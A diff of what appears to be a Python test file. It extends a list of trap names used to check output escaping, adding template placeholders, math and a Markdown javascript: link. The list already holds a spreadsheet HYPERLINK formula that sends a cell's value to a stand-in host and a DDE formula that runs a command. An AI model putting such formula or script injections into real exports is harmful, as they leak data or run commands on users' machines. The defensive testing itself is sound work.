@@ -8,8 +8,9 @@ from pathlib import Path
 
 import duckdb
 
-# Each begins a name: formulas of a spreadsheet, markup of a chart, a color's role, signs that turn
-# the text around them, and so long a name that no place has room for it.
+# Each begins a name: formulas of a spreadsheet, markup of a chart, values that a template puts in,
+# mathematics, a link of Markdown, a color's role, signs that turn the text around them, and so long
+# a name that no place has room for it.
 TRAPS = (
     '=HYPERLINK("http://elsewhere.example/?"&A1,"x")',
     "+1+cmd|' /C calc'!A1 ",
@@ -20,6 +21,9 @@ TRAPS = (
     "\uff1d1+1 ",
     '<a href="//elsewhere.example">link</a> ',
     "<b>bold</b><br>& &amp; ",
+    "%{x} %{meta.kind} {x} {{x}} %s ",
+    "$x^2$ ",
+    "[a](javascript:alert(1)) ",
     "\u202e",
     "\x07",
     "very long " * 40,
